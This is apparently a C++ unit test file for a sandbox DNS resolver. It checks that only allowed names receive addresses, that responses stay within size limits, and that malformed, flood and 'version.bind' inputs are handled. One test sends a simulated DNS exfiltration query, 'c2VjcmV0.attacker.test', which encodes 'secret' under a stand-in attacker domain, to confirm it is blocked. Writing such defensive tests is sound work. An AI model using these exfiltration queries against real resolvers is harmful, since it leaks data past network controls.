// The sandbox's resolver over UDP, on a real loop (sandbox_resolver_test_support.h): what it
// answers, to what size, and what it never answers or asks.
#include "proxy/dns/sandbox_resolver.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <fstream>
#include <optional>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "tests/unit/proxy/dns/sandbox_resolver_test_support.h"

namespace sluice::proxy::dns {
namespace {

using namespace sandbox_resolver_test;
using namespace std::chrono_literals;

// ---- UDP -----------------------------------------------------------------------------------

// Exfiltration through the resolver, over UDP: only A for the allowed name carries an address.
TEST_F(SandboxResolverTest, UdpAnswersOnlyAllowedAddresses) {
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    replies.push_back(c.ask(makeQuery(1, "c2VjcmV0.attacker.test", kTxt)));
    replies.push_back(c.ask(makeQuery(2, "c2VjcmV0.attacker.test", kDnsTypeA)));
    replies.push_back(c.ask(makeQuery(3, "allowed.test", kHttps)));
    replies.push_back(c.ask(makeQuery(4, "allowed.test", kDnsTypeA)));
    replies.push_back(c.ask(makeQuery(5, "allowed.test", kDnsTypeAaaa)));
    replies.push_back(c.ask(makeQuery(6, "ALLOWED.test", kDnsTypeA, /*edns=*/true)));
  });
  ASSERT_EQ(replies.size(), 6u);
  for (std::size_t i = 0; i < replies.size(); ++i) {
    ASSERT_TRUE(replies[i]) << i;
    EXPECT_EQ(replies[i]->id, i + 1);
    EXPECT_TRUE(replies[i]->qr);
    EXPECT_TRUE(replies[i]->aa);
    EXPECT_TRUE(replies[i]->rd);
    EXPECT_FALSE(replies[i]->ra);  // no recursion, ever
  }
  EXPECT_EQ(replies[0]->rcode, 3);
  EXPECT_EQ(replies[0]->an, 0);
  EXPECT_EQ(replies[1]->rcode, 3);
  EXPECT_EQ(replies[1]->an, 0);
  EXPECT_EQ(replies[2]->rcode, 0);
  EXPECT_EQ(replies[2]->an, 0);
  EXPECT_EQ(replies[3]->rcode, 0);
  EXPECT_EQ(replies[3]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[4]->rcode, 0);
  EXPECT_EQ(replies[4]->an, 0);
  EXPECT_EQ(replies[5]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[5]->ar, 1);  // our OPT
  // The Answerer learns who asked (the record of a refused name names it): one socket, one
  // client.
  ASSERT_EQ(clients_.size(), 6u);
  for (const policy::Endpoint& client : clients_) {
    EXPECT_EQ(client.ip, ip("127.0.0.1"));
    EXPECT_NE(client.port, 0);
    EXPECT_EQ(client.port, clients_[0].port);
  }

  EXPECT_EQ(asked_, (Asked{{"c2VjcmV0.attacker.test", kTxt},
                           {"c2VjcmV0.attacker.test", kDnsTypeA},
                           {"allowed.test", kHttps},
                           {"allowed.test", kDnsTypeA},
                           {"allowed.test", kDnsTypeAaaa},
                           {"ALLOWED.test", kDnsTypeA}}));
  const auto& s = resolver_->stats();
  EXPECT_EQ(s.queries, 6u);
  EXPECT_EQ(s.answered, 2u);
  EXPECT_EQ(s.nxdomain, 2u);
  EXPECT_EQ(s.nodata, 2u);
  EXPECT_EQ(s.dropped, 0u);
}

// Whatever the Answerer says, a TXT or HTTPS question gets no record, and A/AAAA only records
// of their own family.
TEST_F(SandboxResolverTest, AddressesOnlyForTheirOwnFamilyAndType) {
  answerer_ = [](std::string_view, std::uint16_t) {
    return SandboxAnswer{SandboxAnswer::Kind::Addresses, {ip("10.200.0.1"), ip("fd00::1")}, 30};
  };
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    for (std::uint16_t type : {kDnsTypeA, kDnsTypeAaaa, kTxt, kHttps, std::uint16_t{255}}) {
      replies.push_back(c.ask(makeQuery(type, "allowed.test", type)));
    }
  });
  ASSERT_EQ(replies.size(), 5u);
  for (const auto& r : replies) {
    ASSERT_TRUE(r);
  }
  EXPECT_EQ(replies[0]->addresses, std::vector<policy::IpAddress>{ip("10.200.0.1")});
  EXPECT_EQ(replies[1]->addresses, std::vector<policy::IpAddress>{ip("fd00::1")});
  for (std::size_t i = 2; i < replies.size(); ++i) {
    EXPECT_EQ(replies[i]->rcode, 0);
    EXPECT_EQ(replies[i]->an, 0) << i;
  }
}

// The Answerer refuses (the sandbox is over dns_queries_per_second): REFUSED, no record, and
// the name and type are still those asked.
TEST_F(SandboxResolverTest, RefusedByTheAnswererIsRefused) {
  answerer_ = [](std::string_view, std::uint16_t) {
    return SandboxAnswer{SandboxAnswer::Kind::Refused, {ip("10.200.0.1")}, 30};
  };
  start();
  std::optional<Reply> reply;
  withClient([&] {
    UdpClient c(port_);
    reply = c.ask(makeQuery(9, "allowed.test", kDnsTypeA));
  });
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->id, 9);
  EXPECT_EQ(reply->rcode, 5);
  EXPECT_EQ(reply->an, 0);
  EXPECT_EQ(resolver_->stats().refused, 1u);
}

TEST_F(SandboxResolverTest, UdpResponseFitsTheClientsSize) {
  answerer_ = [](std::string_view, std::uint16_t qtype) {
    SandboxAnswer a{SandboxAnswer::Kind::Addresses, {}, 30};
    for (std::uint32_t i = 0; i < 200; ++i) {
      if (qtype == kDnsTypeA) {
        a.addresses.push_back(policy::IpAddress::fromV4(0x0a000000 + i));
      } else {
        std::array<std::uint8_t, 16> b{0xfd};
        b[15] = static_cast<std::uint8_t>(i);
        a.addresses.push_back(policy::IpAddress::fromV6(b));
      }
    }
    return a;
  };
  start();
  std::optional<Reply> plain, edns, tcp;
  withClient([&] {
    UdpClient c(port_);
    plain = c.ask(makeQuery(1, "allowed.test", kDnsTypeAaaa));
    edns = c.ask(makeQuery(2, "allowed.test", kDnsTypeAaaa, /*edns=*/true));
    TcpClient t(port_);
    t.send(framed(makeQuery(3, "allowed.test", kDnsTypeA)));
    tcp = t.readReply();
  });
  ASSERT_TRUE(plain && edns && tcp);
  EXPECT_LE(plain->size, 512u);
  EXPECT_GT(plain->size, 512u - 28);  // as many as fit
  EXPECT_FALSE(plain->tc);
  EXPECT_LE(edns->size, 1232u);
  EXPECT_GT(edns->size, 1232u - 28);
  EXPECT_EQ(tcp->an, static_cast<int>(SandboxResolver::kMaxAddresses));
}

TEST_F(SandboxResolverTest, UdpMalformedGetsFormErrOtherOpcodesNotImpResponsesNothing) {
  start();
  std::vector<std::optional<Reply>> replies;
  withClient([&] {
    UdpClient c(port_);
    Bytes bad = makeQuery(11, "allowed.test", kDnsTypeA);
    bad.push_back(0);  // trailing garbage
    replies.push_back(c.ask(bad));
    replies.push_back(c.ask(makeQuery(12, "allowed.test", kDnsTypeA, false, 1, 2 << 3)));
    // A response and a runt get no reply: the next reply is the next query's.
    c.send(makeQuery(13, "allowed.test", kDnsTypeA, false, 1, 0x80));
    c.send(Bytes{1, 2, 3});
    c.send(Bytes{});
    replies.push_back(c.ask(makeQuery(14, "version.bind", kTxt, false, /*qclass=*/3)));
  });
  ASSERT_EQ(replies.size(), 3u);
  ASSERT_TRUE(replies[0] && replies[1] && replies[2]);
  EXPECT_EQ(replies[0]->id, 11);
  EXPECT_EQ(replies[0]->rcode, 1);
  EXPECT_EQ(replies[1]->id, 12);
  EXPECT_EQ(replies[1]->rcode, 4);
  EXPECT_EQ(replies[2]->id, 14);
  EXPECT_EQ(replies[2]->rcode, 5);  // CHAOS: refused without asking the policy
  EXPECT_TRUE(asked_.empty());
  const auto& s = resolver_->stats();
  EXPECT_EQ(s.queries, 6u);
  EXPECT_EQ(s.formerr, 1u);
  EXPECT_EQ(s.notimp, 1u);
  EXPECT_EQ(s.refused, 1u);
  EXPECT_EQ(s.dropped, 3u);
}

TEST_F(SandboxResolverTest, UdpGarbageFloodIsSurvivedAndNeverReachesThePolicy) {
  start();
  std::optional<Reply> after;
  withClient([&] {
    UdpClient c(port_);
    std::uint32_t x = 12345;
    for (int i = 0; i < 2000; ++i) {
      Bytes junk(static_cast<std::size_t>(i % 600));
      for (auto& b : junk) {
        x = x * 1103515245 + 12345;
        b = static_cast<std::uint8_t>(x >> 16);
      }
      if (junk.size() > 2) {
        junk[2] |= 0x80;  // responses: never answered, so the flood needs no reading
      }
      c.send(junk);
    }
    // The flood may overflow the socket's receive buffer, and the kernel drops what does not
    // fit: like a real client, ask again until answered.
    for (int attempt = 0; attempt < 5 && !after; ++attempt) {
      after = c.ask(makeQuery(99, "allowed.test", kDnsTypeA));
    }
  });
  ASSERT_TRUE(after);
  EXPECT_EQ(after->id, 99);
  ASSERT_FALSE(asked_.empty());
  for (const auto& question : asked_) {
    EXPECT_EQ(question, (std::pair<std::string, std::uint16_t>{"allowed.test", kDnsTypeA}));
  }
}

}  // namespace
}  // namespace sluice::proxy::dns
